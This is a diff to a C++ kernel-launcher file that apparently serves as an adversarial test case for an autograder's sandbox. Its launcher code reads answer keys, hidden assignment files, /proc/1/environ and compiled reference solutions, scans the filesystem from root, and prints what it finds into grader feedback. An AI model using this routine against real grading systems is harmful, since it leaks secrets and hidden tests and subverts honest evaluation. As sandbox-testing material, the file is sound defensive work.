@@ -1,7 +1,7 @@
 // Security: a correct kernel whose launcher hunts for the grader's secrets
 // (answer keys, the full assignment with its hidden cases, solutions, the
-// canary the self-test plants) and prints whatever it can read, hoping it
-// ends up in the feedback students see.
+// reference solutions compiled, the canary the self-test plants) and prints
+// whatever it can read, hoping it ends up in the feedback students see.
 #include <dirent.h>
 #include <sys/stat.h>
 
@@ -25,6 +25,20 @@ static void dump(const std::string& path) {
   ++printed;
 }
 
+// A compiled reference (build/reference/<part>, or the autograder bundle's
+// references/<part>.o) is binary: say so in words the self-test looks for.
+static void try_compiled_reference(const std::string& path) {
+  FILE* f = std::fopen(path.c_str(), "rb");
+  if (!f) return;
+  char byte;
+  if (std::fread(&byte, 1, 1, f) == 1) std::printf("READ-COMPILED-REFERENCE %s\n", path.c_str());
+  std::fclose(f);
+}
+
+static bool in_reference_dir(const std::string& path) {
+  return path.find("/reference/") != std::string::npos || path.find("/references/") != std::string::npos;
+}
+
 static bool interesting(const char* name) {
   return !std::strcmp(name, "answers.yaml") || !std::strcmp(name, "assignment.yaml") ||
          !std::strcmp(name, "assignment.json") || !std::strcmp(name, "tiled.cu") ||
@@ -44,6 +58,8 @@ static void search(const std::string& dir, int depth) {
       search(path, depth + 1);
     } else if (interesting(e->d_name)) {
       dump(path);
+    } else if (in_reference_dir(path)) {
+      try_compiled_reference(path);
     }
   }
   closedir(d);
@@ -68,6 +84,8 @@ void launchNaive(const float* M, const float* N, float* P, int Width) {
     dump("/autograder/source/key/answers.yaml");
     dump("/autograder/source/assignment.yaml");
     dump("/proc/1/environ");
+    try_compiled_reference("/autograder/source/references/naive.o");
+    try_compiled_reference("/autograder/source/build/reference/naive");
     search("/", 0);
     std::fflush(stdout);
   }
